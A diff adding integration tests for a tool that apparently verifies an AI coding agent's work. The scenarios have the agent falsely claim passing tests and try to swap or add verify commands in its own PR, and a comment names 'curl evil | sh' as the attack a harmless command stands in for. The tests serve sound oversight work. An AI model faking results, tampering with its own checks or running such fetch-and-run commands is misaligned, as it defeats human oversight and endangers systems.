@@ -1,0 +1,187 @@
+// The verification sidecar in the scheduled heartbeat, as the runner runs it: `node dist/index.js`
+// on a `schedule` payload, GITHUB_WORKSPACE a fresh clone of a real bare remote, check runs read
+// from the local OpenAPI-validating GitHub server, and the audit trail read back with the built
+// CLI (`heartbeat-gate log`) from a clone of the state branch.
+import { execFile } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { runCycle } from '../../src/app/cycle.js';
+import { commitTrailers } from '../helpers/state.js';
+import { GitSandbox, git, writeFiles } from '../helpers/git.js';
+import { startGitHubServer } from '../support/github-server/index.js';
+import { NODE_RUNTIMES, runAction } from '../support/run-action.js';
+import { loadWebhookExample } from '../support/webhooks.js';
+const exec = promisify(execFile);
+const repository = { owner: 'acme', repo: 'widgets' };
+const STATE_BRANCH = 'heartbeat-state';
+const CLI = join(import.meta.dirname, '../../dist/cli/index.js');
+const AGENT = 'agent[bot] <41898282+agent[bot]@users.noreply.github.com>';
+const PASSING = 'tests: pass, lint: pass, typecheck: pass, audit: pass, coverage: pass, complexity: 3, duplication: pass';
+const sandbox = new GitSandbox();
+let server;
+beforeEach(async () => {
+    server = await startGitHubServer();
+    server.state.setPermission({ ...repository, user: 'agent[bot]', permission: 'write' });
+});
+afterEach(async () => {
+    await server.close();
+    await sandbox.cleanup();
+});
+/**
+ * One scheduled run on a fresh checkout of the default branch, as the runner makes it with the
+ * example workflow's `fetch-depth: 1`: shallow, so the sidecar must fetch the cycle's history.
+ */
+async function heartbeat(node, bare) {
+    const workspace = await sandbox.dir('hg-workspace-');
+    await git(workspace, 'clone', '-q', '--depth', '1', `file://${bare}`, '.');
+    expect(await git(workspace, 'rev-parse', '--is-shallow-repository')).toBe('true');
+    const result = await runAction({
+        node,
+        event: 'schedule',
+        payload: loadWebhookExample('schedule'),
+        repository: `${repository.owner}/${repository.repo}`,
+        apiUrl: server.url,
+        sha: await git(workspace, 'rev-parse', 'HEAD'),
+        workspace,
+    });
+    expect(result.stderr).toBe('');
+    return result;
+}
+/** A cycle an hour ago, committed from `clone` (whatever it has checked out) and pushed. */
+async function cycleAnHourAgo(clone) {
+    const outcome = await runCycle({
+        cwd: clone,
+        branch: STATE_BRANCH,
+        push: true,
+        now: new Date(Date.now() - 3_600_000).toISOString(),
+        // Records the branch head, so the next cycle judges exactly the commits after it.
+        sidecar: {},
+    });
+    expect(outcome.ran).toBe(true);
+}
+/** The agent commits on `branch` of a clone of `bare` and pushes; returns the clone and sha. */
+async function agentPush(bare, branch, files, message) {
+    const clone = await sandbox.clone(bare);
+    if (branch !== 'main')
+        await git(clone, 'checkout', '-q', '-b', branch);
+    await writeFiles(clone, files);
+    await git(clone, 'add', '-A');
+    await git(clone, 'commit', '-q', '--allow-empty', '--author', AGENT, '-m', message);
+    await git(clone, 'push', '-q', 'origin', branch);
+    return { clone, sha: await git(clone, 'rev-parse', 'HEAD') };
+}
+describe.each(NODE_RUNTIMES)('the scheduled cycle verifies the agent under $name', (node) => {
+    it('Build-Done says tests: pass, CI / test failed on that commit: not_verified, contradiction, -45, in log', async () => {
+        const bare = await sandbox.bareRemote({
+            'HEARTBEAT.md': [
+                '# Heartbeat',
+                '',
+                '## Tasks',
+                '',
+                '- [ ] ship | Ship the widget with its tests passing | required | verify: evidence:build.done',
+                '',
+            ].join('\n'),
+            '.heartbeat/config.json': JSON.stringify({
+                agents: ['agent[bot]'],
+                groundTruth: { tests: 'CI / test' },
+            }),
+        });
+        await cycleAnHourAgo(await sandbox.clone(bare));
+        // The agent lands its work on main, claiming the tests pass; CI says they do not.
+        const { sha } = await agentPush(bare, 'main', { 'src/widget.ts': 'export const widget = 1;\n' }, `feat: widget\n\nBuild-Done: ${PASSING}`);
+        // Work after the claim: the claim is no longer the tip the shallow checkout holds.
+        await agentPush(bare, 'main', { 'docs/widget.md': '# Widget\n' }, 'docs: widget');
+        server.state.addCheckRun({
+            ...repository,
+            headSha: sha,
+            name: 'CI / test',
+            conclusion: 'failure',
+        });
+        server.state.addCheckRun({
+            ...repository,
+            headSha: sha,
+            name: 'CI / lint',
+            conclusion: 'success',
+        });
+        const result = await heartbeat(node, bare);
+        expect(result.code).toBe(0);
+        expect(result.outputs).toMatchObject({ due: 'true', score: '-45' });
+        // The checks were read on the claimed commit, through the API.
+        expect(server.requests.filter((r) => r.operationId === 'checks/list-for-ref').map((r) => r.path)).toEqual([`/repos/acme/widgets/commits/${sha}/check-runs`]);
+        const short = sha.slice(0, 12);
+        const claimed = `tests: pass (build.done on ${short})`;
+        const actual = `check CI / test concluded failure on ${short}`;
+        const state = await sandbox.clone(bare);
+        await git(state, 'checkout', '-q', STATE_BRANCH);
+        expect(await commitTrailers(state, 'HEAD')).toEqual([
+            'Heartbeat-Cycle: 2',
+            'Heartbeat-Score: -45',
+            'Heartbeat-Target: 50',
+            'Heartbeat-Tier: lockdown',
+            'Heartbeat-Delta: -45',
+            expect.stringMatching(/^Heartbeat-Interval: \d+$/),
+            'Heartbeat-Verdict: ship not_verified contradiction',
+            `Heartbeat-Contradiction: ship claimed ${claimed} | actual ${actual}`,
+        ]);
+        // The job summary names the contradiction with both sides.
+        expect(result.summary).toContain('❌ not\\_verified \\(ground truth contradiction\\)');
+        expect(result.summary).toContain(`- **ship**: claimed tests\\: pass \\(build\\.done on ${short}\\) · actual check CI / test concluded failure on ${short}`);
+        // `heartbeat-gate log`, the built CLI, on a clone of the state branch.
+        const { stdout } = await exec(node.bin, [CLI, 'log'], { cwd: state });
+        expect(stdout).toContain('cycle 2  -45/50 lockdown  -45');
+        expect(stdout).toContain(`not_verified  ship  (ground truth contradiction)\n      claimed: ${claimed}\n      actual:  ${actual}`);
+        expect(server.violations).toEqual([]);
+    });
+    it('a PR that adds verify: cmd: hints to HEARTBEAT.md runs none of them; the trusted ones run', async () => {
+        const traces = await sandbox.dir('hg-traces-');
+        const trace = (name) => join(traces, name);
+        const trusted = [
+            '# Heartbeat',
+            '',
+            '## Tasks',
+            '',
+            `- [ ] smoke | Smoke-test the build | required | verify: cmd:touch ${trace('trusted-ran')}`,
+            `- [ ] run_tests | Run the tests | required | verify: cmd:test -f ${trace('never-there')}`,
+            '',
+        ].join('\n');
+        const bare = await sandbox.bareRemote({
+            'HEARTBEAT.md': trusted,
+            '.heartbeat/config.json': JSON.stringify({ agents: ['agent[bot]'] }),
+        });
+        // The agent's PR adds a task whose command would leave a trace (in place of `curl evil | sh`)
+        // and swaps run_tests' command for one; smoke stays as the trusted branch has it.
+        const evil = trusted
+            .replace(`cmd:test -f ${trace('never-there')}`, `cmd:touch ${trace('changed-ran')}`)
+            .concat(`- [x] deploy | Check the deploy | required | verify: cmd:touch ${trace('added-ran')}\n`);
+        const pr = await agentPush(bare, 'agent/tweak-heartbeat', { 'HEARTBEAT.md': evil }, 'chore: tweak heartbeat');
+        const pull = server.state.addPullRequest({
+            ...repository,
+            user: 'agent[bot]',
+            headRef: 'agent/tweak-heartbeat',
+            headSha: pr.sha,
+        });
+        server.state.addPullFile({ ...repository, pullNumber: pull.number, filename: 'HEARTBEAT.md' });
+        // Worse still, the agent opened a cycle from its PR branch, so the cycle being judged
+        // lists the PR's tasks and commands.
+        await cycleAnHourAgo(pr.clone);
+        const result = await heartbeat(node, bare);
+        expect(result.code).toBe(0);
+        expect(result.outputs.due).toBe('true');
+        expect(existsSync(trace('added-ran'))).toBe(false);
+        expect(existsSync(trace('changed-ran'))).toBe(false);
+        // The sidecar is live: the command the trusted branch holds ran.
+        expect(existsSync(trace('trusted-ran'))).toBe(true);
+        const state = await sandbox.clone(bare);
+        await git(state, 'checkout', '-q', STATE_BRANCH);
+        expect((await commitTrailers(state, 'HEAD')).filter((t) => t.startsWith('Heartbeat-Verdict'))).toEqual([
+            'Heartbeat-Verdict: deploy unclear',
+            'Heartbeat-Verdict: run_tests unclear',
+            'Heartbeat-Verdict: smoke verified',
+        ]);
+        const ledger = await git(state, 'show', `HEAD:.heartbeat/ledger/${new Date().toISOString().slice(0, 7)}.jsonl`);
+        expect(ledger).toContain('command not run: the command is not in the contract on the trusted branch');
+        expect(server.violations).toEqual([]);
+    });
+});
